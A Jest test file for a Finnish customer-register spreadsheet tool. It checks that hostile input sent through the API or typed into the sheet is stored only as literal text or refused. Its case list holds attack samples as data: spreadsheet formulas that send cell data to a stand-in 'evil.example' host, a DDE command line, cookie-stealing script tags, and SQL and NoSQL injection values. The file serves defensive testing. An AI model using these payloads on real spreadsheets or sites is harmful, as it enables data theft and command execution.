/**
 * Hostile and malformed input, through the server API and typed into the sheet: no formula
 * ever lands in a cell, every accepted literal is kept exactly (or normalised as the notice's
 * data rules say), and every refusal is a clear Finnish message naming the field that changes
 * nothing.
 */
import * as path from 'node:path';
import { Emulator } from '../../src/emulator/app';
import { openDemo } from '../../src/demo/seed';
import { OWNER, STAFF } from '../../src/emulator/accounts';
import { REGISTER_TAB } from '../../src/core/schema';

const dist = path.resolve(__dirname, '../../dist');

type Outcome = { kept: true; as?: string } | { refused: true } | { reload: true };
const KEPT: Outcome = { kept: true };
const REFUSED: Outcome = { refused: true };
/** Not a field value at all (an array or an object): the call is malformed, refused before anything runs. */
const RELOAD: Outcome = { reload: true };
const as = (value: string): Outcome => ({ kept: true, as: value });

/** [field, value, outcome]: at least 50 values a careless register would mangle or leak through. */
const CASES: [string, unknown, Outcome][] = [
  // Formulas and their look-alikes stay literal text.
  ['name', '=1+1', KEPT],
  ['name', '=IMPORTXML("http://evil.example/?leak="&A2,"//a")', KEPT],
  ['name', '=HYPERLINK("http://evil.example","Klikkaa")', KEPT],
  ['name', "=cmd|' /C calc'!A0", KEPT],
  ['name', '+358401234567', KEPT],
  ['name', '-1+1', KEPT],
  ['name', '@SUM(A1:A9)', KEPT],
  ['name', "'jo lainausmerkissä", KEPT],
  ['city', '=WEBSERVICE("http://evil.example")', KEPT],
  ['city', '-Tampere', KEPT],
  ['street', '+1 Main Street', KEPT],
  ['street', '@home 5', KEPT],
  ['sourceNote', '=2+3', KEPT],
  ['legalHoldReason', "'=kirjanpitolaki", KEPT],
  // Numbers, dates and booleans as text stay text.
  ['name', '00100', KEPT],
  ['name', '1.2.2025', KEPT],
  ['name', '2025-01-02', KEPT],
  ['name', 'TRUE', KEPT],
  ['name', '1e3', KEPT],
  ['name', '12,5 %', KEPT],
  ['street', '0401234567', KEPT],
  ['postalCode', '00100', KEPT],
  ['postalCode', '33100', KEPT],
  ['postalCode', '0010', REFUSED],
  ['postalCode', '001000', REFUSED],
  ['postalCode', '=00100', REFUSED],
  ['postalCode', 'ABCDE', REFUSED],
  // Phones to E.164, the rest refused.
  ['phone', '0401234567', as('+358401234567')],
  ['phone', '040 123 4567', as('+358401234567')],
  ['phone', '+358 40 123 4567', as('+358401234567')],
  ['phone', '=1+1', REFUSED],
  ['phone', '12345', REFUSED],
  ['phone', 'soita minulle', REFUSED],
  ['phone', '0401234567; DROP TABLE', REFUSED],
  // Emails: trimmed, domain lower-cased; malformed and homoglyph ones refused.
  ['email', ' Maija.Meikalainen@Example.FI ', as('Maija.Meikalainen@example.fi')],
  ['email', '=1+1@example.fi', KEPT],
  ['email', 'a@b@example.fi', REFUSED],
  ['email', 'maija@exаmple.fi', REFUSED], // Cyrillic а
  ['email', 'maija@ехample.fi', REFUSED], // Cyrillic е and х
  ['email', 'maija@ex\u200bample.fi', REFUSED],
  ['email', `${'x'.repeat(65)}@example.fi`, REFUSED],
  ['email', '@example.fi', REFUSED],
  ['email', 'maija@', REFUSED],
  ['email', 'maija meikalainen@example.fi', REFUSED],
  ['email', '<script>@example.fi', REFUSED],
  // HTML, script and template text is just text.
  ['name', '<img src=x onerror=alert(1)>', KEPT],
  ['name', '<script>alert(document.cookie)</script>', KEPT],
  ['name', '"; DROP TABLE customers; --', KEPT],
  ['name', '{{7*7}} ${7*7} <?= 7*7 ?>', KEPT],
  ['name', 'Määttä-Åström Øre Zoë', KEPT],
  // Control characters, invisible direction tricks, overlong text.
  ['name', 'Maija\tMeikäläinen', REFUSED],
  ['name', 'Maija\nMeikäläinen', REFUSED],
  ['name', 'Maija\u0000', REFUSED],
  ['name', 'Maija\u202eäläinekieM', REFUSED],
  ['name', 'Maija\u2028Meikäläinen', REFUSED],
  ['name', 'x'.repeat(201), REFUSED],
  ['name', 'x'.repeat(50_001), REFUSED],
  ['name', '', REFUSED],
  ['name', '   ', REFUSED],
  ['sourceNote', 'x'.repeat(501), REFUSED],
  // Dates must be real calendar dates, as YYYY-MM-DD or as a Finn writes them (d.M.yyyy).
  ['relationshipStart', '1.2.2025', as('2025-02-01')],
  ['relationshipStart', '31.2.2025', REFUSED],
  ['relationshipStart', '2025-02-30', REFUSED],
  ['relationshipStart', '=TODAY()', REFUSED],
  ['relationshipStart', '2025-02-01', KEPT],
  // Enumerations and types.
  ['marketingBasis', 'spam', REFUSED],
  ['customerType', 'alien', REFUSED],
  ['country', 'XX', REFUSED],
  ['name', 12345, as('12345')],
  ['name', { toString: 'x' }, RELOAD],
  ['name', ['a', 'b'], RELOAD],
  ['email', ['maija@example.fi'], RELOAD],
  ['phone', { number: '0401234567' }, RELOAD],
  ['customerNumber', ['100001'], RELOAD],
  ['customerNumber', { $ne: '' }, RELOAD],
  ['customerNumber', 100001, RELOAD],
  ['customerNumber', '100001; DROP', RELOAD],
  ['customerNumber', '=1+1', RELOAD],
  ['name', true, REFUSED],
];

const label = (field: string) => REGISTER_TAB.columns.find((c) => c.key === field)!.header.fi;

function formulasEverywhere(em: Emulator): string[] {
  return em.world.spreadsheet.sheetNames().flatMap((name) => em.world.spreadsheet.snapshot(name)!.formulas.flat().filter((f) => f !== ''));
}

const BASE = { name: 'Testi Henkilö', email: '', phone: '' };

describe('through the server API (saveCustomer)', () => {
  const em = openDemo({ distDir: dist, stateFile: null, fresh: true });

  test(`the suite has at least 50 hostile or malformed values (${CASES.length})`, () => {
    expect(CASES.length).toBeGreaterThanOrEqual(50);
  });

  test.each(CASES.map(([field, value, outcome], i) => [i, field, JSON.stringify(value).slice(0, 60), value, outcome] as const))(
    '#%i %s = %s',
    (_i, field, _shown, value, outcome) => {
      const before = JSON.stringify(em.world.spreadsheet.toJSON());
      const report = em.callFromClient('saveCustomer', [{ customer: { ...BASE, [field]: value } }], STAFF);
      expect(formulasEverywhere(em)).toEqual([]);
      if ('reload' in outcome) {
        expect(report.ok).toBe(false);
        expect(report.error!.message).toBe('Pyyntö oli puutteellinen. Päivitä sivupalkki ja yritä uudelleen.');
        expect(JSON.stringify(em.world.spreadsheet.toJSON())).toBe(before);
        return;
      }
      if ('refused' in outcome) {
        expect(report.ok).toBe(false);
        expect(report.error!.message).toMatch(/^Tarkista tiedot: /);
        expect(report.error!.message).toContain(label(field));
        expect(JSON.stringify(em.world.spreadsheet.toJSON())).toBe(before);
        return;
      }
      expect(report.error?.message).toBeUndefined();
      const saved = (report.result as { customer: Record<string, unknown> }).customer;
      const expected = outcome.as ?? value;
      expect(saved[field]).toBe(expected);
      // Read back from the sheet exactly as written.
      const read = em.callFromClient('getCustomer', [{ customerNumber: saved.customerNumber }], STAFF).result as { customer: Record<string, unknown> };
      expect(read.customer[field]).toBe(expected);
    },
  );

  test('a legal-hold reason with its date is kept literally even when it looks like a formula', () => {
    const report = em.callFromClient('saveCustomer', [{ customer: { ...BASE, legalHoldUntil: '2030-12-31', legalHoldReason: "'=kirjanpitolaki" } }], STAFF);
    expect((report.result as { customer: { legalHoldReason: string } }).customer.legalHoldReason).toBe("'=kirjanpitolaki");
    expect(formulasEverywhere(em)).toEqual([]);
  });
});

describe('typed into the register tab (the on-edit trigger)', () => {
  const em = openDemo({ distDir: dist, stateFile: null, fresh: true });
  const header = em.world.spreadsheet.snapshot('Rekisteri')!.values[0] as string[];
  const typed = CASES.filter(([field, value]) => typeof value === 'string' && field !== 'legalHoldReason' && field !== 'customerNumber' && (value as string).length < 1000);

  test.each(typed.map(([field, value, outcome], i) => [i, field, JSON.stringify(value).slice(0, 60), value as string, outcome] as const))(
    '#%i %s typed as %s',
    (i, field, _shown, value, outcome) => {
      // Rows 2..40 hold escaped literals from earlier cases too, so reverting one is covered.
      const row = 2 + (i % 40);
      const column = header.indexOf(label(field)) + 1;
      const number = String((em.world.spreadsheet.snapshot('Rekisteri')!.values[row - 1] as unknown[])[0]);
      const before = (em.callFromClient('getCustomer', [{ customerNumber: number }], STAFF).result as { customer: Record<string, unknown> }).customer;
      const edit = em.editCell(STAFF, 'Rekisteri', row, column, value);
      expect(edit.ok).toBe(true);
      expect(formulasEverywhere(em)).toEqual([]);
      const after = (em.callFromClient('getCustomer', [{ customerNumber: number }], STAFF).result as { customer: Record<string, unknown> }).customer;
      if ('refused' in outcome) {
        expect(after[field]).toBe(before[field]);
        expect(em.world.uiFor(OWNER).toasts.length + em.world.uiFor(STAFF).toasts.length).toBeGreaterThan(0);
      } else {
        expect(after[field]).toBe(('as' in outcome ? outcome.as : undefined) ?? value);
        expect(after.version).toBe((before.version as number) + 1);
      }
    },
  );
});

const RELOAD_MESSAGE = /^Pyyntö oli puutteellinen\. Päivitä sivupalkki ja yritä uudelleen\.$/;

describe('calls that do not fit the API shape', () => {
  const em = openDemo({ distDir: dist, stateFile: null, fresh: true });
  const shapes: [string, unknown[], RegExp][] = [
    ['getCustomer', [{ customerNumber: { $gt: '' } }], /Päivitä sivupalkki/],
    ['getCustomer', [{}], /Päivitä sivupalkki/],
    ['getCustomer', ['100001'], /Päivitä sivupalkki/],
    ['getCustomer', [], /Päivitä sivupalkki/],
    ['searchCustomers', [{ query: 'x'.repeat(201) }], /Hakusana on liian pitkä/],
    ['searchCustomers', [{ query: ['a'] }], /Päivitä sivupalkki/],
    ['saveCustomer', [{ customer: 'Maija' }], /Päivitä sivupalkki/],
    ['saveCustomer', [{ customer: { customerNumber: '100001', city: 'Oulu' } }], /Päivitä sivupalkki/],
    ['saveCustomer', [{ customer: { customerNumber: '100001', city: 'Oulu' }, expectedVersion: '1' }], /Päivitä sivupalkki/],
    ['restrictProcessing', [{ customerNumber: '100001', expectedVersion: 1, restricted: 'yes' }], /Päivitä sivupalkki/],
    ['setLegalHold', [{ customerNumber: '100001', expectedVersion: 1, until: 20301231, reason: 'x' }], /Päivitä sivupalkki/],
    ['exportMarketingList', [{ format: 'xlsx' }], /Päivitä sivupalkki/],
    ['saveSettings', [{ settings: { keyPersonnel: [{ email: 'not-an-email', role: 'admin' }] } }], /Tarkista avainhenkilöt/],
    ['saveSettings', [{ settings: { keyPersonnel: [{ email: 'a@b.fi', role: 'root' }] } }], /Tarkista avainhenkilöt/],
    ['saveSettings', [{ settings: { retentionMonths: -1 } }], /Säilytysaika suhteen päättymisestä \(kuukautta\): Anna kokonaisluku/],
    ['saveSettings', [{ settings: { controller: { name: '', address: '', email: 'x' } } }], /rekisterinpitäjän nimi/],
    // A customer number is a string of digits (after the register's letter prefix), never an array, an object or a number.
    ...(['getCustomer', 'banMarketing', 'listDisclosures'] as const).flatMap((fn) =>
      [['100001'], { $gt: '' }, 100001, '100001 OR 1', '', '=1+1', '1'.repeat(40)].map((n) => [fn, [{ customerNumber: n }], RELOAD_MESSAGE] as [string, unknown[], RegExp]),
    ),
    ...(['endRelationship', 'setMarketingBasis', 'setLegalHold', 'restrictProcessing'] as const).map((fn) =>
      [fn, [{ customerNumber: ['100001'], expectedVersion: 1, date: '', basis: 'none', until: '', reason: '', restricted: false }], RELOAD_MESSAGE] as [string, unknown[], RegExp]),
    ['saveCustomer', [{ customer: { customerNumber: ['100001'], city: 'Oulu' } }], RELOAD_MESSAGE],
    ['saveCustomer', [{ customer: { customerNumber: ['100001'], city: 'Oulu' }, expectedVersion: 1 }], RELOAD_MESSAGE],
    ['saveCustomer', [{ customer: { customerNumber: { toString: '100001' }, name: 'Uusi' } }], RELOAD_MESSAGE],
    ['saveCustomer', [{ customer: { customerNumber: 100001, city: 'Oulu' }, expectedVersion: 1 }], RELOAD_MESSAGE],
    ['saveCustomer', [{ customer: { name: ['Maija'] } }], RELOAD_MESSAGE],
    ['saveCustomer', [{ customer: { name: 'Maija', city: { toString: 'Oulu' } } }], RELOAD_MESSAGE],
    ['saveCustomer', [{ customer: ['Maija'] }], RELOAD_MESSAGE],
    ['saveCustomer', [{ customer: { customerNumber: '100001', city: 'Oulu' }, expectedVersion: [1] }], RELOAD_MESSAGE],
    ['endRelationship', [{ customerNumber: '100001', expectedVersion: 1, date: ['2026-12-01'] }], RELOAD_MESSAGE],
    ['setMarketingBasis', [{ customerNumber: '100001', expectedVersion: 1, basis: ['consent'] }], RELOAD_MESSAGE],
    ['setMarketingBasis', [{ customerNumber: '100001', expectedVersion: 1, basis: 'consent', consentAt: { at: '2026-01-01' } }], RELOAD_MESSAGE],
    ['setLegalHold', [{ customerNumber: '100001', expectedVersion: 1, until: ['2030-12-31'], reason: 'x' }], RELOAD_MESSAGE],
    ['recordDisclosure', [{ customerNumber: ['100001'], recipient: 'Poliisi', recipientCountry: 'FI', basis: 'authority', basisReference: 'X', dataCategories: ['name'] }], RELOAD_MESSAGE],
    ['recordDisclosure', [{ customerNumber: '100001', recipient: ['Poliisi'], recipientCountry: 'FI', basis: 'authority', basisReference: 'X', dataCategories: ['name'] }], RELOAD_MESSAGE],
    ['recordDisclosure', [{ customerNumber: '100001', recipient: 'Poliisi', recipientCountry: 'FI', basis: 'authority', basisReference: 'X', dataCategories: [['name']] }], RELOAD_MESSAGE],
    ['searchCustomers', [{ query: { $regex: '.' } }], RELOAD_MESSAGE],
    ['exportMarketingList', [{ format: ['excel'] }], RELOAD_MESSAGE],
    ['setUp', [{ language: ['sv'] }], RELOAD_MESSAGE],
    ['setUp', [{ language: { fi: true } }], RELOAD_MESSAGE],
  ];
  test.each(shapes)('%s(%j) is refused with a clear message and changes nothing', (fn, args, message) => {
    const before = JSON.stringify(em.world.spreadsheet.toJSON()) + JSON.stringify(em.world.properties);
    const report = em.callFromClient(fn, args, OWNER);
    expect(report.ok).toBe(false);
    expect(report.error!.message).toMatch(message);
    expect(JSON.stringify(em.world.spreadsheet.toJSON()) + JSON.stringify(em.world.properties)).toBe(before);
  });

  test('a customer number sent as an array does not create a new person (the defect: it was read as no number)', () => {
    const rows = () => em.world.spreadsheet.snapshot('Rekisteri')!.values.filter((r) => r[0] !== '').length;
    const before = rows();
    const report = em.callFromClient('saveCustomer', [{ customer: { customerNumber: ['100001'], name: 'Uusi Henkilö' } }], STAFF);
    expect(report.error?.message).toMatch(RELOAD_MESSAGE);
    expect(rows()).toBe(before);
  });

  test('a customer number with the register\'s letter prefix and surrounding spaces is still accepted', () => {
    const report = em.callFromClient('getCustomer', [{ customerNumber: ' 100001 ' }], STAFF);
    expect(report.ok).toBe(true);
    expect(em.callFromClient('getCustomer', [{ customerNumber: 'AS-100001' }], STAFF).error?.message).toMatch(/100001|ei löydy|löytynyt/i);
  });

  test('settings stored by hand with wrong types read as the defaults for those fields', () => {
    const world = openDemo({ distDir: dist, stateFile: null, fresh: true });
    const stored = JSON.parse(world.world.properties.document['rekisteri.settings']);
    world.world.properties.document['rekisteri.settings'] = JSON.stringify({
      ...stored, retentionMonths: 'forever', language: 'de', keyPersonnel: [...stored.keyPersonnel, { email: 42, role: 'admin' }, 'x'],
    });
    const { settings } = world.callFromClient('getSettings', [], OWNER).result as { settings: { retentionMonths: number; language: string; keyPersonnel: unknown[] } };
    expect(settings.retentionMonths).toBe(24);
    expect(settings.language).toBe('fi');
    expect(settings.keyPersonnel).toEqual(stored.keyPersonnel);
  });
});
